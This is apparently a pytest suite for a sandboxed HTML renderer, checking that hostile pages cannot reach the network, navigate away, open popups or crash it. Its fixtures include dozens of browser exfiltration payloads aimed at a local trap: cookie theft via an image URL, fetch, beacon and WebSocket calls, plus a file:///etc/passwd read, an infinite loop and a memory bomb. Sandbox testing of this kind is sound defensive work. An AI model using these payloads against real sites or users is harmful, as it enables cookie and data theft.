"""Rendered code is hostile. Nothing may reach the network (a loopback trap counts every connection),
dialogs/popups/navigation are contained, and a bad page never takes the renderer down."""
import time

import psutil
import pytest

from relook import render as R

# Each page tries one way out, aimed at the trap. {u} is the trap's base URL, {ws} the same as ws://.
ESCAPES = {
    "img": '<img src="{u}/img.png">',
    "img_exfil_js": "<script>new Image().src = '{u}/x?c=' + document.cookie;</script>",
    "fetch": "<script>fetch('{u}/fetch').catch(() => {{}});</script>",
    "fetch_no_cors": "<script>fetch('{u}/nc', {{mode: 'no-cors', method: 'POST', body: 'secret'}}).catch(() => {{}});</script>",
    "xhr": "<script>const x = new XMLHttpRequest(); x.open('GET', '{u}/xhr'); x.send();</script>",
    "script_src": '<script src="{u}/s.js"></script>',
    "stylesheet": '<link rel="stylesheet" href="{u}/s.css">',
    "css_import": "<style>@import url('{u}/imp.css');</style>",
    "css_background": "<style>body {{ background: url('{u}/bg.png'); }}</style>",
    "font_face": "<style>@font-face {{ font-family: F; src: url('{u}/f.woff2'); }} h1 {{ font-family: F; }}</style>",
    "iframe": '<iframe src="{u}/frame"></iframe>',
    "iframe_srcdoc_nested": "<iframe srcdoc=\"<img src='{u}/nested.png'>\"></iframe>",
    "form_submit": '<form id=f action="{u}/form" method=post><input name=a value=b></form><script>f.submit()</script>',
    "location": "<script>location.href = '{u}/nav';</script>",
    "location_later": "<script>setTimeout(() => location.assign('{u}/later'), 500);</script>",
    "meta_refresh": '<meta http-equiv="refresh" content="0;url={u}/refresh">',
    "window_open": "<script>window.open('{u}/popup');</script>",
    "anchor_blank": '<a id=a href="{u}/blank" target="_blank">x</a><script>a.click()</script>',
    "websocket": "<script>try {{ new WebSocket('{ws}/ws'); }} catch (e) {{}}</script>",
    "eventsource": "<script>new EventSource('{u}/sse');</script>",
    "beacon": "<script>navigator.sendBeacon('{u}/beacon', 'data');</script>",
    "prefetch": '<link rel="prefetch" href="{u}/pf"><link rel="preconnect" href="{u}"><link rel="preload" as="image" href="{u}/pl.png">',
    "video": '<video src="{u}/v.mp4" autoplay></video><audio src="{u}/a.mp3" autoplay></audio>',
    "object_embed": '<object data="{u}/o.swf"></object><embed src="{u}/e.swf">',
    "svg_image": '<svg><image href="{u}/svg.png" width="10" height="10"/></svg>',
    "srcset": '<img srcset="{u}/1x.png 1x, {u}/2x.png 2x">',
    "worker": "<script>try {{ new Worker('{u}/w.js'); }} catch (e) {{}}</script>",
    "blob_worker_fetch": "<script>const b = new Blob([\"fetch('{u}/from-worker')\"]); new Worker(URL.createObjectURL(b));</script>",
    "service_worker": "<script>navigator.serviceWorker && navigator.serviceWorker.register('{u}/sw.js').catch(() => {{}});</script>",
    "webrtc": "<script>try {{ const pc = new RTCPeerConnection({{iceServers: [{{urls: 'stun:127.0.0.1:{port}'}}]}}); pc.createDataChannel('d'); pc.createOffer().then(o => pc.setLocalDescription(o)); }} catch (e) {{}}</script>",
    "ping_attr": '<a id=p href="#x" ping="{u}/ping">x</a><script>p.click()</script>',
    "file_url": "<script>fetch('file:///etc/passwd').catch(() => {{}});</script><img src='file:///etc/hostname'>",
    "dynamic_import": "<script type=module>import('{u}/m.js').catch(() => {{}});</script>",
    "history_then_reload": "<script>history.pushState({{}}, '', '/x'); setTimeout(() => location.reload(), 200);</script>",
}


def _page(body: str) -> str:
    return f"<html><head><title>t</title></head><body><h1>Still here</h1>{body}</body></html>"


def test_trap_catches_an_unsandboxed_browser(trap):
    """The zero below means something: the same kind of page in a plain browser does reach the trap."""
    import asyncio
    from playwright.async_api import async_playwright

    async def main():
        async with async_playwright() as p:
            b = await p.chromium.launch(executable_path=R.find_chromium(), args=["--no-sandbox", "--disable-gpu"])
            page = await b.new_page()
            await page.set_content(_page(ESCAPES["img"].format(u=trap.url)))
            await asyncio.sleep(0.3)
            await b.close()

    before = trap.connections
    asyncio.run(main())
    assert trap.connections > before
    trap.connections, trap.requests = 0, []


def test_no_request_escapes(trap):
    u, ws = trap.url, trap.url.replace("http", "ws")
    pages = [_page(v.format(u=u, ws=ws, port=trap.port)) for v in ESCAPES.values()]
    results = R.render_many(pages, extract=False, use_cache=False)
    time.sleep(0.5)  # let anything delayed arrive
    assert trap.connections == 0, f"escaped: {trap.requests}"
    for name, res in zip(ESCAPES, results):
        assert res.error not in ("render_error",), (name, res.detail)
    # the renderer saw (and refused) the attempts it could see
    blocked = {name: res.blocked_requests for name, res in zip(ESCAPES, results)}
    for name in ("img", "fetch", "xhr", "script_src", "iframe", "form_submit", "location", "beacon"):
        assert any(str(trap.port) in b for b in blocked[name]), name


@pytest.mark.parametrize("name", ["location", "location_later", "meta_refresh", "form_submit", "history_then_reload"])
def test_navigation_away_keeps_the_page(name, trap):
    res = R.render(_page(ESCAPES[name].format(u=trap.url, ws="", port=trap.port)), extract=False)
    assert res.valid, res.detail
    assert all("Still here" in d["text"] for d in res.dom)


def test_dialogs_are_dismissed_and_recorded():
    page = _page("<script>alert('a'); const c = confirm('b'); const p = prompt('c');"
                 "document.body.insertAdjacentHTML('beforeend', '<p id=r>' + c + ',' + p + '</p>');"
                 "window.print(); window.onbeforeunload = e => { e.preventDefault(); return 'stay'; };</script>")
    res = R.render(page, extract=False)
    assert res.valid
    assert [d.split(":")[0] for d in res.dialogs] == ["alert", "confirm", "prompt"]
    assert "false,null" in res.dom[0]["text"]  # dismissed: confirm -> false, prompt -> null


def test_popups_are_closed(trap):
    page = _page(f"<a id=a href='{trap.url}/pop' target=_blank>open</a>")
    res = R.render(page, extract=False, actions=[{"click": "#a"}])
    assert res.valid and trap.connections == 0


def test_infinite_loop_times_out_and_renderer_survives():
    t0 = time.time()
    res = R.render("<html><body><h1>x</h1><script>while (true) {}</script></body></html>", extract=False,
                   config=R.RenderConfig(timeout_s=2.0))
    assert not res.valid and res.error == "timeout"
    assert time.time() - t0 < 8
    assert R.render("<html><body><h1>after the loop</h1></body></html>", extract=False).valid


def test_loop_inside_timer_times_out():
    page = "<html><body><h1>x</h1><script>setTimeout(() => { for (;;) {} }, 500)</script></body></html>"
    res = R.render(page, extract=False, config=R.RenderConfig(timeout_s=2.0))
    assert not res.valid and res.error == "timeout"


def test_memory_bomb_crashes_cleanly():
    page = "<html><body><h1>x</h1><script>const a = []; for (;;) a.push(new Array(1e6).fill(1.5));</script></body></html>"
    res = R.render(page, extract=False, config=R.RenderConfig(timeout_s=10.0))
    assert not res.valid and res.error in ("crash", "timeout")
    assert R.render("<html><body><h1>after the bomb</h1></body></html>", extract=False).valid


def test_huge_dom_is_bounded():
    page = "<html><body><script>for (let i = 0; i < 3e6; i++) document.body.appendChild(document.createElement('div')).textContent = i;</script></body></html>"
    t0 = time.time()
    res = R.render(page, extract=False, config=R.RenderConfig(timeout_s=3.0))
    assert time.time() - t0 < 12
    assert res.error in (None, "timeout", "crash")
    if res.valid:  # it finished in budget: the snapshot is capped
        assert len(res.dom[0]["elements"]) <= R.RenderConfig().max_elements


def test_wedged_or_dead_browser_is_replaced():
    import asyncio

    async def main():
        async with R.Renderer(concurrency=2) as r:
            assert (await r.render("<html><body><p>before</p></body></html>", extract=False)).valid
            for p in psutil.Process().children(recursive=True):
                try:  # killing a parent may take its children with it before we get to them
                    if "chrom" in p.name() or "headless" in p.name():
                        p.kill()
                except psutil.NoSuchProcess:
                    pass
            await asyncio.sleep(0.3)
            ok = await r.render("<html><body><p>after kill</p></body></html>", extract=False)
            return ok, r.stats

    res, stats = asyncio.run(main())
    assert res.valid, res.detail
    assert stats["browser_restarts"] >= 1


def test_concurrent_bad_pages_do_not_spoil_good_ones():
    bad = "<html><body><h1>x</h1><script>while(1){}</script></body></html>"
    good = [f"<html><body><h1>good {i}</h1></body></html>" for i in range(6)]
    results = R.render_many([bad] + good + [bad.replace("x", "y")], extract=False,
                            config=R.RenderConfig(timeout_s=2.0))
    assert [r.valid for r in results] == [False] + [True] * 6 + [False]
